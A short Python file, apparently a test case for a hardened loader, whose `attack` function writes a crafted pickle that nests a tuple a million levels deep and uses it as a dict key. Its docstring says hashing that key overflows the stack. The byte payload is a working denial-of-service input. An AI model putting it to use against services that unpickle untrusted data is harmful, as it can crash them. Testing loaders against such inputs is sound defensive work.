"""A tuple in a tuple, a million deep, as a key: hashing it exhausts the stack."""

from pathlib import Path

MESSAGE = r"keys are not text"


def attack(path: Path) -> None:
    path.write_bytes(b"\x80\x02})" + b"\x85" * 1_000_000 + b"Ns.")
